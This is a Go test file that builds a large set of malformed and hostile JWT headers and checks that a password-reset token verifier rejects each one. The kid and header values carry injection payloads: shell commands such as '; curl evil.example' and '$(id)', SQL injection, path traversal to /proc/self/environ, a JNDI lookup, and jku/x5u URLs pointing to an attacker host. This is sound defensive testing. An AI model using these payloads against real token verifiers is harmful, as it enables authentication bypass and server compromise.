package token_test

import (
	"fmt"
	"strings"

	"github.com/lostkey-go/lostkey/token"
)

// headerAttacks have the claims of the victim and a good MAC: only the header
// is not what our keys write.
func headerAttacks(v victim) []attack {
	var all []attack
	for _, header := range headers() {
		all = append(all, attack{
			family: "header", name: abridged(header), raw: seal(v.key, header, v.claims()), want: token.ReasonUnknownKey,
		})
	}
	// An injected kid that a key look-up would fall for.
	return append(all, attack{
		family: "header", name: "1,000 characters of kid", want: token.ReasonMalformed,
		raw: seal(v.key, headerOf(repeat("k", 1000), token.Reset), v.claims()),
	}, attack{
		family: "header", name: "not JSON, well signed", want: token.ReasonUnknownKey, raw: seal(v.key, "reset", v.claims()),
	}, attack{
		family: "header", name: "of purpose invite, MAC of purpose reset", want: token.ReasonWrongPurpose,
		raw: seal(v.key, headerOf(keyID, token.Invite), v.claims()),
	})
}

func headers() []string {
	const alg, kid, typ = `"alg":"HS256"`, `"kid":"` + keyID + `"`, `"typ":"reset+jwt"`
	all := []string{
		`{` + alg + `}`, `{` + alg + `,` + kid + `}`, `{` + alg + `,` + typ + `}`, `{` + kid + `,` + typ + `}`, `{}`, `[]`, `null`, `1`, `"HS256"`,
		// order
		`{` + alg + `,` + typ + `,` + kid + `}`, `{` + kid + `,` + alg + `,` + typ + `}`, `{` + kid + `,` + typ + `,` + alg + `}`,
		`{` + typ + `,` + alg + `,` + kid + `}`, `{` + typ + `,` + kid + `,` + alg + `}`,
		// duplicates, first and last
		`{"alg":"none",` + alg + `,` + kid + `,` + typ + `}`, `{` + alg + `,"alg":"none",` + kid + `,` + typ + `}`,
		`{` + alg + `,` + alg + `,` + kid + `,` + typ + `}`, `{` + alg + `,"kid":"x",` + kid + `,` + typ + `}`, `{` + alg + `,` + kid + `,"kid":"x",` + typ + `}`,
		`{` + alg + `,` + kid + `,"typ":"JWT",` + typ + `}`, `{` + alg + `,` + kid + `,` + typ + `,"typ":"JWT"}`, `{` + alg + `,` + kid + `,` + typ + `,` + typ + `}`,
		// other case of a name
		`{"Alg":"HS256",` + kid + `,` + typ + `}`, `{"ALG":"HS256",` + kid + `,` + typ + `}`, `{` + alg + `,"KID":"` + keyID + `",` + typ + `}`,
		`{` + alg + `,` + kid + `,"Typ":"reset+jwt"}`, `{` + alg + `,"ALG":"none",` + kid + `,` + typ + `}`,
		// white space
		` {` + alg + `,` + kid + `,` + typ + `}`, `{` + alg + `,` + kid + `,` + typ + `} `, `{ ` + alg + `,` + kid + `,` + typ + `}`,
		`{"alg": "HS256",` + kid + `,` + typ + `}`, "{" + alg + ",\n" + kid + "," + typ + "}", "{" + alg + ",\t" + kid + "," + typ + "}",
		"\ufeff{" + alg + `,` + kid + `,` + typ + `}`,
		// almost JSON
		`{` + alg + `,` + kid + `,` + typ + `,}`, `{` + alg + `,` + kid + `,` + typ + `}}`, `{` + alg + `,` + kid + `,` + typ, `{` + alg + `,` + kid + `,` + typ + `}{}`,
		`{'alg':'HS256',` + kid + `,` + typ + `}`, `{/**/` + alg + `,` + kid + `,` + typ + `}`, `{` + alg + `;` + kid + `;` + typ + `}`,
		"{" + alg + "," + kid + "," + typ + "}\x00", "{" + alg + ",\"kid\":\"" + keyID + "\xff\"," + typ + "}",
		// escapes
		`{"\u0061lg":"HS256",` + kid + `,` + typ + `}`, `{"alg":"HS25\u0036",` + kid + `,` + typ + `}`, `{` + alg + `,` + kid + `,"typ":"reset\u002bjwt"}`,
		`{` + alg + `,` + kid + `,"typ":"reset+jwt","x":` + repeat("[", 60) + repeat("]", 60) + `}`,
	}
	for _, value := range []string{
		`"JWT"`, `"jwt"`, `"RESET+JWT"`, `"reset+JWT"`, `"Reset+jwt"`, `"reset+jwt "`, `" reset+jwt"`, `"reset"`, `"+jwt"`, `"reset+jwt+jwt"`, `"application/reset+jwt"`,
		`"at+jwt"`, `"secevent+jwt"`, `"logout+jwt"`, `"dpop+jwt"`, `"reset-jwt"`, `"reset jwt"`, `"email-change+jwt"`, `"JOSE"`, `"JOSE+JSON"`, `""`, `null`, `0`, `true`, `["reset+jwt"]`, `{}`,
	} {
		all = append(all, `{`+alg+`,`+kid+`,"typ":`+value+`}`)
	}
	for _, value := range []string{
		`null`, `""`, `0`, `202611`, `true`, `[]`, `["` + keyID + `"]`, `{}`, `"2026-12"`, `"2026-1"`, `"2026-11 "`, `" 2026-11"`, `"2026-11\u0000"`, `"2026‑11"`,
		`"../../../../../../dev/null"`, `"/dev/null"`, `"..\\..\\windows\\win.ini"`, `"file:///dev/null"`, `"/proc/self/environ"`, `"2026-11/../2026-11"`,
		`"' OR '1'='1"`, `"x' UNION SELECT 'key"`, `"1; DROP TABLE users"`, `"| sleep 10"`, `"; curl evil.example"`, `"$(id)"`, "\"`id`\"", `"${jndi:ldap://evil.example/a}"`, `"{{7*7}}"`,
		`"https://evil.example/key"`, `"//evil.example/key"`, `"*"`, `"%00"`, `"2026-11,2025-01"`, `"__proto__"`, `"constructor"`,
	} {
		all = append(all, `{`+alg+`,"kid":`+value+`,`+typ+`}`)
	}
	for _, member := range []string{
		`"crit":[]`, `"crit":["exp"]`, `"crit":["b64"]`, `"crit":["b64"],"b64":false`, `"b64":false`, `"b64":true`, `"crit":["alg"]`, `"crit":"b64"`, `"crit":null`, `"crit":["http://example.com/unknown"]`,
		`"zip":"DEF"`, `"cty":"JWT"`, `"cty":"json"`, `"enc":"A256GCM"`, `"epk":{}`, `"apu":"x"`, `"apv":"x"`, `"p2c":1`, `"p2c":2147483647,"p2s":"x"`, `"iv":"x"`, `"tag":"x"`,
		`"jwk":{"kty":"oct","k":"AA"}`, `"jwk":{"kty":"RSA","n":"AQ","e":"AQAB"}`, `"jku":"https://evil.example/jwks.json"`, `"jku":"http://127.0.0.1/"`, `"x5u":"https://evil.example/cert.pem"`, `"x5c":["AA"]`,
		`"x5t":"AA"`, `"x5t#S256":"AA"`, `"url":"https://evil.example"`, `"nonce":"x"`, `"iss":"https://evil.example"`, `"sub":"admin"`, `"aud":"x"`, `"exp":1`, `"ppt":"shaken"`, `"svt":[]`, `"x":1`, `"":""`, `"__proto__":{"alg":"none"}`,
	} {
		all = append(all, `{`+alg+`,`+kid+`,`+typ+`,`+member+`}`)
	}
	return all
}

// abridged is a name for a test out of JSON.
func abridged(text string) string {
	name := strings.Trim(fmt.Sprintf("%+q", text), `"`)
	name = strings.ReplaceAll(name, `\"`, `"`)
	if len(name) > 110 {
		name = name[:70] + " … " + name[len(name)-35:]
	}
	return name
}
